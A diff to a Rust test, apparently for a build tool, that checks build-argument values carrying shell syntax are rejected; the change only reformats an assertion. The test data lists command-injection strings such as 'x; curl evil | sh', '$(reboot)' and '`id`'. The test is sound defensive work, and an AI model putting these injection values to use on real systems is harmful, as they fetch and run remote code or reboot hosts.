@@ -168,7 +168,12 @@ fn a_build_arg_with_shell_syntax_cannot_plant_a_command_in_the_image() {
     // Shell syntax in a value is refused, in every runtime command that reads it.
     for hostile in ["x; curl evil | sh", "$(reboot)", "`id`", "a\"b", "x'y"] {
         let output = plan(hostile);
-        assert_eq!(output.status.code(), Some(2), "{hostile}: {}", stderr(&output));
+        assert_eq!(
+            output.status.code(),
+            Some(2),
+            "{hostile}: {}",
+            stderr(&output)
+        );
         let text = stderr(&output);
         assert!(
             text.contains("graphbuild::substitution::unsafe_value")
